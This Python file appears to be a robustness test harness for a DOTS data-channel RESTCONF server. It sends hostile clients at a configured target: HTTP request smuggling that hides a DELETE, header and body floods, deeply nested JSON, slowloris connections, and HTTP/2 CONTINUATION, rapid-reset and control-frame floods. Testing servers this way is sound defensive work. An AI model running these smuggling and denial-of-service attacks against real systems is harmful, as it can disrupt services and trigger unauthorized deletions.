"""Hostile clients of the data channel, one form each, over and over: `python3 http_attacks.py FORM` with the target as
JSON on the first line of its input. Each round says in a line of JSON what came of it; the end of the input ends it.
A program of its own: what it burns must not count as the latency of somebody else."""

import json
import select
import socket
import ssl
import struct
import sys
import time

DEADLINE = 30  # s for an answer
PATH = "/restconf/data/ietf-dots-data-channel:dots-data"
JSON = "application/yang-data+json"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
GIB = 1 << 30


class Target:
    def __init__(self, host, address, port, anchors, cert, key, cuid):
        self.host, self.address, self.port, self.client = host, address, port, f"{PATH}/dots-client={cuid}"
        self.context = ssl.create_default_context(cafile=anchors)
        self.context.verify_flags &= ~ssl.VERIFY_X509_STRICT  # Python 3.13; the test PKI has no key identifiers
        self.context.load_cert_chain(cert, key)

    def connect(self, protocol):
        self.context.set_alpn_protocols([protocol])
        plain = socket.create_connection((self.address, self.port), DEADLINE)
        secure = self.context.wrap_socket(plain, server_hostname=self.host)
        assert secure.selected_alpn_protocol() == protocol
        return secure


def receive(connection, seconds=DEADLINE):
    """What there is; b"" at the end of the connection."""
    connection.settimeout(seconds)
    try:
        return connection.recv(65536)
    except (ConnectionError, ssl.SSLError):
        return b""


def send(connection, data):
    """False: the other side has ended it."""
    try:
        connection.settimeout(DEADLINE)
        connection.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError):
        return False


def glance(connection):
    """What came already, b"" at the end of the connection, None when nothing came. Session tickets are not told."""
    connection.settimeout(0)
    try:
        return connection.recv(65536)
    except ssl.SSLWantReadError:
        return None
    except (ConnectionError, ssl.SSLError):
        return b""


BODIES = set()  # of errors, each once: whoever reads what is printed holds them to the schema


# ---- HTTP/1.1 ----


def answers(data):
    """Status and error-tag of each response in it."""
    found = []
    for part in data.split(b"HTTP/1.1 ")[1:]:
        head, _, body = part.partition(b"\r\n\r\n")
        tag = ""
        if f"content-type: {JSON}".encode() in head.lower() and body:
            BODIES.add(body.decode())
            tag = json.loads(body)["ietf-restconf:errors"]["error"][0]["error-tag"]
        found.append([int(part[:3]), tag])
    return found


def until_end(connection):
    data = b""
    while piece := receive(connection):
        data += piece
    return data


def http1(target, *pieces):
    """One connection of these bytes, read to its end."""
    with target.connect("http/1.1") as connection:
        for piece in pieces:
            if not send(connection, piece):
                break
        return answers(until_end(connection))


def request(target, method, *fields, path=None):
    lines = [f"{method} {path or target.client} HTTP/1.1", f"Host: {target.host}:{target.port}", *fields, "", ""]
    return "\r\n".join(lines).encode("latin-1")


def smuggling(target):
    """Each has a DELETE of the client where one that reads it otherwise would see a request."""
    hidden = request(target, "DELETE")
    chunked = b"0\r\n\r\n" + hidden
    kind = f"Content-Type: {JSON}"
    forms = {
        "length and coding": ["Content-Length: 5", "Transfer-Encoding: chunked"],
        "coding and length": ["Transfer-Encoding: chunked", "Content-Length: 5"],
        "two lengths": ["Content-Length: 5", "Content-Length: 0"],
        "list of lengths": ["Content-Length: 5, 5"],
        "length with a sign": ["Content-Length: +5"],
        "space before the colon": ["Transfer-Encoding : chunked"],
        "coding in two fields": ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        "unknown coding": ["Transfer-Encoding: xchunked"],
        "coding with a tab": ["Transfer-Encoding: chunked\x0b"],
        "folded line": ["X: y\r\n Transfer-Encoding: chunked"],
        "bare carriage return": ["X: y\rTransfer-Encoding: chunked"],
        "NUL": ["X: y\0"],
        "two hosts": ["Host: other.test", "Content-Length: 0"],
    }
    for name, fields in forms.items():
        yield name, http1(target, request(target, "POST", kind, *fields) + chunked)
    bodies = {"chunk size": b"1g\r\nx\r\n", "chunk end": b"1\r\nxy\r\n", "huge chunk": b"f" * 17 + b"\r\nx\r\n"}
    for name, body in bodies.items():
        yield name, http1(target, request(target, "POST", kind, "Transfer-Encoding: chunked") + body + chunked)
    yield "bare line feeds", http1(target, request(target, "GET").replace(b"\r\n", b"\n") + hidden)


def header_flood(target):
    yield "many fields", http1(target, request(target, "GET", *(f"X-{i}: y" for i in range(1000))))
    yield "long field", http1(target, request(target, "GET", "X: " + "y" * 1000000))
    yield "long target", http1(target, request(target, "GET", path="/" + "y" * 1000000))
    yield "endless head", http1(target, request(target, "GET")[:-2], *(b"X: y\r\n" * 1000 for _ in range(1000)))


def huge_body(target):
    """A GiB that is announced, and one that is not; the server must not read it."""
    kind = f"Content-Type: {JSON}"
    zeros = bytes(65536)
    for name, framing, piece in (
        ("announced", f"Content-Length: {GIB}", zeros),
        ("in chunks", "Transfer-Encoding: chunked", b"10000\r\n" + zeros + b"\r\n"),
    ):
        with target.connect("http/1.1") as connection:
            sent, data = 0, None
            more = send(connection, request(target, "POST", kind, framing))
            while more and sent < GIB and data is None:
                more = send(connection, piece)
                sent += len(piece)
                data = glance(connection)
            data = (data or b"") + until_end(connection)
        yield name, answers(data), sent


def bad_json(target):
    """On one connection, which stays good."""
    module = "ietf-dots-data-channel"
    one = '{"name": "a", "target-prefix": ["203.0.113.1/32"]}'
    bodies = {
        "arrays 10,000 deep": "[" * 10000 + "]" * 10000,
        "objects 10,000 deep": '{"a":' * 10000 + "1" + "}" * 10000,
        "100,000 deep, open": "[" * 100000,
        "cut short": f'{{"{module}:aliases": {{"alias": [{one}',
        "duplicate members": f'{{"{module}:aliases": {{"alias": [{one}], "alias": [{one}]}}}}',
        "duplicate leaf": f'{{"{module}:aliases": {{"alias": [{{"name": "b", {one[1:]}]}}}}',
        "duplicate entry": f'{{"{module}:aliases": {{"alias": [{one}, {one}]}}}}',
        "unknown namespace": f'{{"ietf-no-such-module:aliases": {{"alias": [{one}]}}}}',
        "other namespace": f'{{"ietf-access-control-list:aliases": {{"alias": [{one}]}}}}',
        "no namespace": f'{{"aliases": {{"alias": [{one}]}}}}',
        "unknown member": f'{{"{module}:aliases": {{"alias": [{{"name": "a", "x": 1}}]}}}}',
        "huge number": f'{{"{module}:aliases": {"9" * 100000}}}',
        "no UTF-8": f'{{"{module}:aliases": {{"alias": [{{"name": "\xff"}}]}}}}',
        "NUL": f'{{"{module}:aliases": {{"alias": [{{"name": "a\\u0000b"}}]}}}}',
        "nothing": "",
        "text": "x" * 200000,
    }
    with target.connect("http/1.1") as connection:
        for name, text in bodies.items():
            body = text.encode("latin-1")
            head = request(target, "POST", f"Content-Type: {JSON}", f"Content-Length: {len(body)}")
            send(connection, head + body)
            data = b""
            while not whole(data) and (piece := receive(connection)):
                data += piece
            yield name, answers(data)


def whole(data):
    head, found, body = data.partition(b"\r\n\r\n")
    lengths = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
    return bool(found) and (not lengths or len(body) >= int(lengths[0].split(b":")[1]))


def slow(target):
    """As many connections as one source may have, but for a few: heads and bodies, a byte now and then."""
    body = request(target, "POST", f"Content-Type: {JSON}", "Content-Length: 200000")
    heads = [target.connect("http/1.1") for _ in range(30)]
    bodies = [target.connect("http/1.1") for _ in range(30)]
    for connection in bodies:
        send(connection, body)
    yield "held", [], len(heads) + len(bodies)
    begin = time.monotonic()
    said = dict.fromkeys(heads)
    while None in said.values() and time.monotonic() - begin < DEADLINE:
        for connection in bodies + [each for each in heads if said[each] is None]:
            send(connection, b"G")
        said = {each: glance(each) if data is None else data for each, data in said.items()}
        time.sleep(0.1)
    for connection, data in said.items():
        yield "slow head", answers((data or b"") + until_end(connection))
    for connection in heads + bodies:
        connection.close()


# ---- HTTP/2 ----


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of RFC 7541 section 5.2."""
    value = value.encode("latin-1")
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, b"\x7f"
    while rest >= 128:
        out, rest = out + bytes([rest % 128 + 128]), rest // 128
    return out + bytes([rest]) + value


def fields(target, method, *more, path=None):
    pairs = [(":method", method), (":scheme", "https"), (":path", path or target.client)]
    pairs += [(":authority", f"{target.host}:{target.port}"), *more]
    return b"".join(b"\0" + text(name) + text(value) for name, value in pairs)


class Http2:
    def __init__(self, target):
        self.connection = target.connect("h2")
        self.rest = b""
        self.frames = []
        self.ended = False
        send(self.connection, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        self.wait(SETTINGS)
        send(self.connection, frame(SETTINGS, ACK, 0))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.connection.close()

    def take(self, data=None):
        data = receive(self.connection) if data is None else data
        self.ended = not data
        self.rest += data
        while len(self.rest) >= 9 and len(self.rest) >= 9 + (size := int.from_bytes(self.rest[:3], "big")):
            self.frames.append((self.rest[3], int.from_bytes(self.rest[5:9], "big"), self.rest[9 : 9 + size]))
            self.rest = self.rest[9 + size :]

    def take_what_came(self):
        while not self.ended and (data := glance(self.connection)) is not None:
            self.take(data)

    def wait(self, *kinds):
        while not self.ended and not any(kind in kinds for kind, _, _ in self.frames):
            self.take()

    def flood(self, data):
        """Until the server has ended it: the error of its GOAWAY."""
        while not self.ended:
            if not send(self.connection, data):
                break
            self.take_what_came()
        while not self.ended:
            self.take()
        return [["goaway", struct.unpack(">II", payload[:8])[1]] for kind, _, payload in self.frames if kind == GOAWAY]

    def until_reset(self, stream, data):
        """Sends this until the stream or the connection is ended: what came."""
        while not self.ended and not any(
            kind == GOAWAY or (kind == RST_STREAM and number == stream) for kind, number, _ in self.frames
        ):
            if not send(self.connection, data):
                break
            self.take_what_came()
        return self.outcome(stream)

    def outcome(self, stream):
        """What became of it."""
        while not self.ended and not any(
            kind == GOAWAY or (number == stream and kind in (HEADERS, RST_STREAM)) for kind, number, _ in self.frames
        ):
            self.take()
        found = []
        for kind, number, payload in self.frames:
            if kind == GOAWAY:
                found.append(["goaway", struct.unpack(">II", payload[:8])[1]])
            elif kind == RST_STREAM and number == stream:
                found.append(["reset", struct.unpack(">I", payload)[0]])
            elif kind == HEADERS and number == stream:
                found.append(["answer", 0])
            elif kind == DATA and number == stream and b"ietf-restconf:errors" in payload:
                found.append(["errors", 0])
                BODIES.add(payload.decode())
        return found


def continuation_flood(target):
    with Http2(target) as http:
        send(http.connection, frame(HEADERS, 0, 1, fields(target, "GET")))
        yield "continuations", http.flood(frame(CONTINUATION, 0, 1, b"\0\x01x\x01y" * 100))
    with Http2(target) as http:
        send(http.connection, frame(HEADERS, 0, 1, fields(target, "GET")))
        yield "empty continuations", http.flood(frame(CONTINUATION, 0, 1) * 100)


def rapid_reset(target):
    with Http2(target) as http:
        block, stream, found = fields(target, "GET", path=f"{target.client}/acls"), 1, []
        while not http.ended:
            burst = b""
            for _ in range(50):
                burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
            if not send(http.connection, burst):
                break
            http.take_what_came()
        while not http.ended:
            http.take()
        for kind, _, payload in http.frames:
            if kind == GOAWAY:
                found.append(["goaway", struct.unpack(">II", payload[:8])[1]])
        yield "rapid reset", found


def control_floods(target):
    for name, data in {
        "ping": frame(PING, 0, 0, b"12345678") * 50,
        "settings": frame(SETTINGS, 0, 0) * 50,
        "window updates": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 50,
    }.items():
        with Http2(target) as http:
            yield name, http.flood(data)


def bad_http2(target):
    """Each on a stream of its own, and on a connection of its own where it ends that."""
    forms = {
        "transfer-encoding": [("transfer-encoding", "chunked")],
        "connection": [("connection", "close")],
        "upper case": [("X-Upper", "y")],
        "line feed": [("x", "y\r\nHost: z")],
        "late pseudo": [("x", "y"), (":path", "/")],
        "length": [("content-length", "5")],
        "two lengths": [("content-length", "0"), ("content-length", "5")],
    }
    for name, more in forms.items():
        with Http2(target) as http:
            send(http.connection, frame(HEADERS, END_HEADERS | END_STREAM, 1, fields(target, "DELETE", *more)))
            yield name, http.outcome(1)
    with Http2(target) as http:
        many = [(f"x-{i}", "y" * 100) for i in range(150)]
        block = fields(target, "GET", *many)
        parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
        send(http.connection, frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), 1, parts[0]))
        for part in parts[1:]:
            send(http.connection, frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, 1, part))
        yield "header list", http.outcome(1)
    with Http2(target) as http:
        more = [("content-type", JSON), ("content-length", str(GIB))]
        send(http.connection, frame(HEADERS, END_HEADERS, 1, fields(target, "POST", *more)))
        yield "a GiB", http.outcome(1)
    with Http2(target) as http:
        send(http.connection, frame(HEADERS, END_HEADERS, 1, fields(target, "POST", ("content-type", JSON))))
        yield "endless", http.until_reset(1, frame(DATA, 0, 1, bytes(16384)))


def downloads(target):
    """All ACLs on each of many streams, read as fast as they come."""
    with Http2(target) as http:
        block = fields(target, "GET", path=f"{target.client}/acls?content=config")
        send(http.connection, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        for stream in range(1, 41, 2):
            send(http.connection, frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
            send(http.connection, frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1 << 30)))
        sizes = dict.fromkeys(range(1, 41, 2), 0)
        open_streams = set(sizes)
        while open_streams and not http.ended:
            http.take()
            for kind, stream, payload in http.frames:
                if kind == DATA:
                    sizes[stream] += len(payload)
                if kind == DATA and not payload or kind in (RST_STREAM, GOAWAY):
                    open_streams.discard(stream)
            http.frames.clear()
            if all(size and size == max(sizes.values()) for size in sizes.values()):
                open_streams.clear()
        yield "downloads", [], min(sizes.values())


FORMS = {
    form.__name__: form
    for form in (
        *(smuggling, header_flood, huge_body, bad_json, slow),
        *(continuation_flood, rapid_reset, control_floods, bad_http2, downloads),
    )
}


def main():
    target = Target(**json.loads(sys.stdin.readline()))
    form = FORMS[sys.argv[1]]
    while not select.select([sys.stdin], [], [], 0)[0]:
        for name, *found in form(target):
            print(json.dumps([name, *found]), flush=True)
        print(json.dumps(["bodies", *sorted(BODIES)]), flush=True)
        BODIES.clear()
        print(json.dumps(["round"]), flush=True)


if __name__ == "__main__":
    main()
